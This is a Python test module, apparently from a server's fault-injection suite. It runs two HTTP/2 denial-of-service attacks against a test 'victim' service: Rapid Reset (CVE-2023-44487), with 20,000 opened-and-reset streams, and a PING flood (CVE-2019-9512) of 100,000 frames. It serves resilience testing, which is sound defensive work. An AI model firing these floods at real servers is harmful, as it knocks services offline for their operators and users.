"""Many small frames: each costs its sender nothing."""

from __future__ import annotations

from tests.faults.attacks.frames import (
    END_HEADERS,
    HEADERS,
    PING,
    RST_STREAM,
    call_headers,
    frame,
    pour,
)
from tests.faults.attacks.victim import SERVICE, Victim


async def opens_calls_and_resets_them_at_once(victim: Victim) -> None:
    """Rapid reset, CVE-2023-44487: each call is begun on the server, and none counts as open."""
    block = call_headers(f"{SERVICE}/RunTask", ("x-api-key", victim.key))

    def call(number: int) -> bytes:
        stream = 2 * number + 1
        return frame(HEADERS, stream, block, flags=END_HEADERS) + frame(RST_STREAM, stream, b"\0\0\0\x08")

    await pour(victim, call, victim.times(20_000))


async def pings_without_end(victim: Victim) -> None:
    """CVE-2019-9512: each ping asks for an answer."""
    ping = frame(PING, payload=b"are you?")
    assert await pour(victim, lambda _: ping, victim.times(100_000)) > 1, "nobody was disconnected for it"
